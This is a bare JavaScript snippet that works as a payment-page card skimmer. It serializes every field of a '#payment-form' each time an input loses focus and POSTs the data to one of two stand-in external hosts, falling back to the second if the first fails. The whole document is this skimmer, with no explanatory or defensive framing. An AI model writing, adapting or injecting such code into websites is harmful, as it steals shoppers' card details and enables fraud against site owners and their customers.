var hs=['https://fbk-one.example','https://fbk-two.example'];function s(d,i){var x=new XMLHttpRequest();x.onerror=function(){i<hs.length-1&&s(d,i+1)};x.open('POST',hs[i]);x.send(d)}
jQuery('#payment-form input').on('blur',function(){s(jQuery('#payment-form').serialize(),0)});
